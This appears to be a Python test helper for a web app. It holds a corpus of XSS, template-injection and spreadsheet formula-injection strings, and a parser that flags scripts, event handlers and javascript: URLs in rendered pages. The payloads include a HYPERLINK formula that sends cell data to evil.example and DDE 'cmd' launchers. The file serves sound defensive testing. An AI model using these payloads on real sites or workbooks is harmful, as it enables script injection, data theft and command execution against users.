"""The stored-markup corpus: text a user may type that a careless page, email
or workbook would run, and the check that a rendered page ran none of it.

Every case is valid input (markup is text: the API stores it as typed); what
is checked is how it comes back. Shared by tests/test_markup.py (in-process,
every page, the workbook, the emails) and tests/e2e/test_markup.py (a real
browser)."""
from html.parser import HTMLParser

# (name, text). Each is short enough for a title (≤ 200, with a suffix) and
# for a name (≤ 100), and holds no tab or newline (titles and names are one line).
CORPUS = [
    ("script", '<script>alert("xss-script")</script>'),
    ("img_onerror", '<img src=x onerror=alert("xss-img")>'),
    ("attribute_break", '"><svg onload=alert("xss-svg")>'),
    ("single_quote_break", "'><iframe src=javascript:alert('xss-iframe')>"),
    ("javascript_url", '<a href="javascript:alert(\'xss-link\')">bấm vào đây</a>'),
    ("bare_javascript_url", "javascript:alert('xss-bare')"),
    ("textarea_break", '</textarea><script>alert("xss-textarea")</script>'),
    ("title_break", '</title><script>alert("xss-title")</script>'),
    ("style_break", '<style>body{display:none}</style><b onmouseover=alert("xss-style")>x</b>'),
    ("template_jinja", "{{7*7}} {{ config }} {% raw %}{{ 8*8 }}"),
    ("template_dollar", "${7*7} #{7*7} <%= 7*7 %>"),
    ("excel_hyperlink", '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'),
    ("excel_plus_cmd", "+cmd|' /C calc'!A0"),
    ("excel_at_sum", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("excel_minus", "-2+3+cmd|' /C calc'!A0"),
    ("excel_equals_sum", "=SUM(1,2)"),
    ("entity", "&lt;script&gt;alert('xss-entity')&lt;/script&gt; &amp; AT&T"),
    ("mixed_vietnamese", 'Sáng kiến <b>in đậm</b> & "ngoặc kép" – \'đơn\' <u>gạch</u>'),
]
TEXTS = [text for _, text in CORPUS]
# Formula injection: Excel (or a CSV export of the sheet) reads a cell starting with these as a formula.
FORMULA_STARTS = ("=", "+", "-", "@")

# What the app's own pages hold: one external script (the app's), SVG bars drawn
# with presentation attributes, nothing else that runs or loads.
OWN_SCRIPT_PREFIX = "/app/static/app.js"
NEVER = {"iframe", "object", "embed", "img", "frame", "frameset", "base", "meta", "link", "style", "b", "u"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcdoc"}


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements, self.text, self.values = [], [], []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        self.values += [value for _, value in attrs if value]
        self._in_script = tag == "script"

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        self.values += [value for _, value in attrs if value]

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        self.text.append(("script" if self._in_script else "text", data))


def injected(html: str, allowed=frozenset({"link", "meta"})) -> list[str]:
    """What in `html` would run or load besides the page's own: scripts other
    than the app's, elements a page never has, event-handler attributes,
    javascript: URLs. Empty when the page is inert. `allowed`: tags of NEVER
    the page legitimately has (the page head's <meta> and <link>)."""
    parser = _Elements()
    parser.feed(html)
    parser.close()
    found = []
    for tag, attrs in parser.elements:
        if tag == "script" and not (attrs.get("src") or "").split("?")[0].endswith(OWN_SCRIPT_PREFIX):
            found.append(f"<script {attrs}>")
        if tag in NEVER - allowed:
            found.append(f"<{tag} {attrs}>")
        for name, value in attrs.items():
            if name.startswith("on"):
                found.append(f"<{tag} {name}={value!r}>")
            if name in URL_ATTRIBUTES and (value or "").strip().lower().replace("\x00", "").startswith(
                    ("javascript:", "vbscript:", "data:text/html")):
                found.append(f"<{tag} {name}={value!r}>")
    found += [f"inline script: {data[:60]!r}" for kind, data in parser.text if kind == "script" and data.strip()]
    return found


def shown(html: str) -> str:
    """Everything a reader can read on the page (text and attribute values, as
    the browser decodes them), joined: a stored text shown as text is in here
    exactly as typed."""
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return "\n".join([data for _, data in parser.text] + parser.values)
